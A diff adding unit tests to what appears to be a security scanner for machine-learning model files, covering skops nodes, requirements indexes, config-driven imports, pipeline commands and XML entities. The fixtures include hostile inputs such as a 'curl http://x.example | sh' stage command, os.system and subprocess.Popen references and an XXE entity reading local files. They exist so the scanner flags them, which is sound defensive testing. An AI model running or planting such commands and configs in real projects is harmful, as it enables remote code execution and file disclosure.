@@ -123,6 +123,31 @@ BOOST_AUTO_TEST_CASE(skops_nodes_are_judged_by_their_loaders) {
     BOOST_TEST(ids_of(skops_node("builtins", "M", "MethodNode", walk)) == "PRQ-CONFIG-015");
 }
 
+BOOST_AUTO_TEST_CASE(skops_names_functions_in_more_than_one_way) {
+    const auto ids_of = [](const std::string& schema) { return ids(test::scan(schema)); };
+    const std::string pair = R"(,"content":{"module_path":"os","function":"system"}})";
+    // The class is what is looked at in later protocols only.
+    BOOST_TEST(ids_of(skops_node("numpy", "ufunc", "FunctionNode", pair)) == "PRQ-CONFIG-001");
+    BOOST_TEST(ids_of(R"({"__class__":"function","__module__":"builtins")" + pair) ==
+               "PRQ-CONFIG-001");
+    BOOST_TEST(ids_of(R"({"__class__":"system","__module__":"os","content":{}})") ==
+               "PRQ-CONFIG-001");
+    const std::string benign = R"(,"content":{"module_path":"numpy","function":"log1p"}})";
+    BOOST_TEST(ids_of(skops_node("numpy", "ufunc", "FunctionNode", benign)) == "");
+    BOOST_TEST(ids_of(R"({"__class__":"SVC","__module__":"sklearn.svm._classes"})") == "");
+    // What is imported may be called: as grave as the call.
+    BOOST_TEST(verdict_of_text(skops_node("subprocess", "Popen", "TypeNode")) == "malicious");
+    const std::string held = R"(,"content":{"__class__":"Popen","__module__":"subprocess"}})";
+    BOOST_TEST(verdict_of_text(skops_node("builtins", "type", "TypeNode", held)) == "malicious");
+    const auto generator = [&](const std::string& name) {
+        return ids_of(
+            skops_node("numpy.random._generator", "Generator", "RandomGeneratorNode",
+                       R"(,"content":{"bit_generator":{"bit_generator":")" + name + R"("}}})"));
+    };
+    BOOST_TEST(generator("PCG64") == "");
+    BOOST_TEST(generator("set_state") == "PRQ-CONFIG-002");
+}
+
 BOOST_AUTO_TEST_CASE(manifests_say_what_is_loaded) {
     BOOST_TEST(ids(test::scan(R"([{"type": "pty.spawn", "path": ""}])")) == "PRQ-CONFIG-001");
     BOOST_TEST(ids(test::scan(R"({"_class_name": ["../p", "P"]})")) == "PRQ-CONFIG-021");
@@ -142,6 +167,98 @@ BOOST_AUTO_TEST_CASE(requirements_are_judged_by_their_source) {
     BOOST_TEST(ids_of("x @ https://github.com@x.example/a.zip\n") == "PRQ-CONFIG-019");
     BOOST_TEST(ids_of("dependencies:\n- pip:\n  - git+https://x.example/a\n") == "PRQ-CONFIG-019");
     BOOST_TEST(identities(test::scan("a.png was made by http://x.example/\n")) == "text");
+    // Of two addresses the other one.
+    BOOST_TEST(ids_of("-i https://pypi.org/simple -f https://x.example/\n") == "PRQ-CONFIG-019");
+    // Assignments are Python.
+    BOOST_TEST(identities(test::scan("__url__ = \"http://x.example\"\n__author__ = 'x'\n")) ==
+               "text");
+}
+
+BOOST_AUTO_TEST_CASE(no_line_of_requirements_hides_the_others) {
+    const auto ids_of = [](const std::string& text) {
+        return ids(named("requirements.txt", text));
+    };
+    const std::string index = "--index-url http://x.example/simple\n";
+    for (const std::string line : {"./local", "torch (>=1.0)", "C:\\x.whl", "\xc3\xa9vil", "a b"}) {
+        BOOST_TEST(ids_of(index + line + "\n").find("PRQ-CONFIG-019") != std::string::npos, line);
+    }
+    BOOST_TEST(ids_of("torch\n./local\n") == "PRQ-CONFIG-025");
+    BOOST_TEST(ids_of("torch (>=1.0)\nnumpy==1.26 # x\nx[a]~=1; python_version<'3'\n") == "");
+    BOOST_TEST(ids_of("torch\n--extra-\\\nindex-url http://x.example/\n") == "PRQ-CONFIG-019");
+    BOOST_TEST(ids_of("-i ${INDEX}\ntorch\n") == "PRQ-CONFIG-019");
+    BOOST_TEST(ids_of("torch --tr x.example\n") == "PRQ-CONFIG-019");
+    BOOST_TEST(ids_of("# x \\\n-i h\"ttp\"://x.example\n") == "PRQ-CONFIG-019");
+    BOOST_TEST(ids_of("torch #\xe2\x80\xa8-i http://x.example\n") == "PRQ-CONFIG-019");
+    BOOST_TEST(gaps(named("requirements.txt", "# coding: utf-7\ntorch\n")) == "unsupported");
+    BOOST_TEST(identities(named("Requirements-dev.TXT", "torch\n")) == "requirements");
+    BOOST_TEST(identities(named("notes.txt", "torch\n")) == "text");
+}
+
+BOOST_AUTO_TEST_CASE(libraries_import_by_keys_of_their_own) {
+    const auto ids_of = [](const std::string& text) { return ids(test::scan(text)); };
+    BOOST_TEST(ids_of(R"({"megatron_core": "nobody", "megatron_config": {}})") == "PRQ-CONFIG-002");
+    BOOST_TEST(ids_of(R"({"megatron_core": "megatron.core"})") == "");
+    for (const std::string key :
+         {"activation_function", "sbert_ce_default_activation_function", "activation_fn"}) {
+        BOOST_TEST(ids_of("{\"" + key + "\": \"os.abort\"}") != "", key);
+        BOOST_TEST(ids_of("{\"" + key + "\": \"gelu_new\"}") == "", key);
+        BOOST_TEST(ids_of("{\"" + key + "\": \"torch.nn.modules.activation.Tanh\"}") == "", key);
+    }
+    BOOST_TEST(ids_of(R"({"types": {"q": "nobody.X"}, "structure": {}})") == "PRQ-CONFIG-002");
+    BOOST_TEST(ids_of(R"({"types": {"q": "nobody.X"}})") == "");
+    BOOST_TEST(ids_of("custom_imports: {imports: [nobody]}\n") == "PRQ-CONFIG-002");
+    BOOST_TEST(ids_of("pickle_module_name: nobody\n") == "PRQ-CONFIG-002");
+    BOOST_TEST(ids_of("pickle_module_name: mlflow.pytorch.pickle_module\n") == "");
+    BOOST_TEST(ids(named("pickle_module_info.txt", "nobody")) == "PRQ-CONFIG-002");
+    BOOST_TEST(ids(named("pickle_module_info.txt", "cloudpickle\n")) == "");
+    BOOST_TEST(ids_of(R"({"model": {"type": "os.system"}})") == "PRQ-CONFIG-001");
+    const std::string reader = R"({"dataset_reader": {"type": ")";
+    BOOST_TEST(ids_of(reader + R"(nobody.Reader"}, "model": {}})") == "PRQ-CONFIG-002");
+    BOOST_TEST(ids_of(reader + R"(snli"}, "model": {}})") == "");
+    BOOST_TEST(ids_of("common:\n  user_dir: /tmp/x\n") == "PRQ-CONFIG-004");
+    BOOST_TEST(ids_of(R"({"attn_implementation": "owner/kernel"})") == "PRQ-CONFIG-005");
+    BOOST_TEST(ids_of(R"({"attn_implementation": "sdpa"})") == "");
+    BOOST_TEST(ids(named("model_index.json", R"({"unet": ["mine", "X"]})")) == "PRQ-CONFIG-004");
+}
+
+BOOST_AUTO_TEST_CASE(commands_of_projects_are_run) {
+    const auto ids_of = [](const std::string& text) { return ids(test::scan(text)); };
+    BOOST_TEST(ids_of("stages:\n  a:\n    cmd: curl http://x.example | sh\n") ==
+               "PRQ-SCRIPT-001 PRQ-CONFIG-026");
+    BOOST_TEST(ids_of("stages:\n  a:\n    cmd: python train.py\n") == "PRQ-CONFIG-026");
+    BOOST_TEST(ids_of("entry_points:\n  main:\n    command: python x.py\n") == "PRQ-CONFIG-026");
+    BOOST_TEST(ids_of("build:\n  run:\n  - curl http://x.example | sh\npredict: p.py:P\n") ==
+               "PRQ-SCRIPT-001 PRQ-CONFIG-026");
+    BOOST_TEST(ids_of("jobs:\n  run: curl http://x.example | sh\n") == "");
+}
+
+BOOST_AUTO_TEST_CASE(what_only_resembles_configuration_is_none) {
+    BOOST_TEST(identities(test::scan("[build]\nx = [\"a\"]\ny = [\"b\"]")) == "text");
+    BOOST_TEST(identities(test::scan("all:\n\tcc x.c\nclean:\n\trm x\n")) == "text");
+    const std::string wheel = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: a\nTag: b\n";
+    BOOST_TEST(gaps(named("WHEEL", wheel)) == "");
+    BOOST_TEST(gaps(named("WHEEL", wheel + "a: 1\n")) == "malformed");
+    const std::string fence = "```\na: !!python/name:x.y ''\n```\n";
+    BOOST_TEST(gaps(named("README.md", "---\na: 1\n---\n# x\n" + fence)) == "");
+    BOOST_TEST(gaps(named("README.md", "---\na: `\nb: !!python/name:x.y ''\n---\n")) ==
+               "malformed");
+    BOOST_TEST(gaps(named("notes", fence)) == "malformed");
+    BOOST_TEST(gaps(named("x.py", "T = 'tag:yaml.org,2002:'\nx = {\n}\n")) == "");
+    BOOST_TEST(gaps(test::scan(R"([{"class_name": "dog"}, {"class_name": "cat"}])")) == "");
+    BOOST_TEST(gaps(test::scan(R"({"class_name": "Net", "module": "mine"})")) == "not_inspected");
+    // Behind a comment, JSON is YAML.
+    BOOST_TEST(ids(test::scan("# x\n{\"_target_\":\"os.system\"}\n")) == "PRQ-CONFIG-001");
+    BOOST_TEST(ids(test::scan("# x\n{\"class_path\":\"os.system\"}\n")) == "PRQ-CONFIG-001");
+}
+
+BOOST_AUTO_TEST_CASE(data_is_loaded_by_name) {
+    const auto load = [](const std::string& more) {
+        return verdict_of_text("d: {_target_: datasets.load_dataset, " + more + "}\n");
+    };
+    BOOST_TEST(load("path: squad") == "clean");
+    BOOST_TEST(load("path: squad, trust_remote_code: true") == "malicious");
+    BOOST_TEST(load("path: ./script.py") == "malicious");
+    BOOST_TEST(verdict_of_text("t: {_target_: lightning.pytorch.Trainer}\n") == "clean");
 }
 
 BOOST_AUTO_TEST_CASE(patterns_that_never_end_are_told_from_those_that_do) {
@@ -178,6 +295,12 @@ BOOST_AUTO_TEST_CASE(spacy_names_of_other_packages_are_worth_knowing) {
     const FileReport other = test::scan(head + "@callbacks = \"mine.Hook.v1\"\n");
     BOOST_TEST(ids(other) == "PRQ-CONFIG-024");
     BOOST_TEST(verdict_of(other) == "clean");
+    for (const std::string line : {"@callbacks: \"mine.v1\"", "   @callbacks = \"mine.v1\"",
+                                   "x = {\"@callbacks\": \"mine.v1\"}"}) {
+        BOOST_TEST(ids(test::scan(head + line + "\n")) == "PRQ-CONFIG-024", line);
+    }
+    BOOST_TEST(ids(test::scan("[nlp] \r\npipeline = []\r\n@callbacks = \"mine.v1\"\r\n")) ==
+               "PRQ-CONFIG-024");
 }
 
 BOOST_AUTO_TEST_CASE(xml_may_not_reach_out) {
@@ -191,6 +314,28 @@ BOOST_AUTO_TEST_CASE(xml_may_not_reach_out) {
     BOOST_TEST(pmml("", "<xi:include href='x'/>") == "PRQ-XML-005");
     BOOST_TEST(gaps(test::scan("<?xml version='1.0' encoding='UTF-7'?><a/>")) == "unsupported");
     BOOST_TEST(gaps(test::scan("<?xml version='1.0'?><a>")) == "malformed");
+}
+
+BOOST_AUTO_TEST_CASE(xml_is_known_behind_whatever_may_stand_in_front) {
+    const std::string type = "a [<!ENTITY x SYSTEM 'file:///x'>]><a>&x;</a>";
+    for (const std::string head : {"<!-- c --><!DOCTYPE ", "<?foo?> <!DOCTYPE ", "<!DOCTYPE\t",
+                                   "<!DOCTYPE\n", "\xef\xbb\xbf<!-- > --> <!DOCTYPE "}) {
+        BOOST_TEST(ids(test::scan(head + type)) == "PRQ-XML-001", head);
+    }
+    BOOST_TEST(ids(test::scan("<!DOCTYPE html [<!ENTITY x SYSTEM 'f'>]><a>&x;</a>")) ==
+               "PRQ-XML-001");
+    BOOST_TEST(identities(test::scan("<!DOCTYPE html><html>&x;</html>")) == "text");
+    BOOST_TEST(identities(test::scan("<!-- x --><p>a <b>\n")) == "text");
+    const std::string space = "='http://www.w3.org/2001/XInclude'";
+    BOOST_TEST(ids(test::scan("<p:PMML xmlns:xi" + space + "><xi:include href='x'/></p:PMML>")) ==
+               "PRQ-XML-005");
+    BOOST_TEST(ids(test::scan("<PMML xmlns" + space + "><include href='x'/></PMML>")) ==
+               "PRQ-XML-005");
+    BOOST_TEST(ids(test::scan("<PMML><include href='x'/></PMML>")) == "");
+    BOOST_TEST(ids(named("x.xml", "<a><xi:include href='x'/></a>")) == "PRQ-XML-005");
+    const std::string layers =
+        "version='11'><layers><layer type='X' version='mine'/></layers></net>";
+    BOOST_TEST(ids(test::scan("<!-- c --><net\n" + layers)) == "PRQ-XML-007");
 }
 
 BOOST_AUTO_TEST_CASE(weights_of_openvino_are_referred_to) {
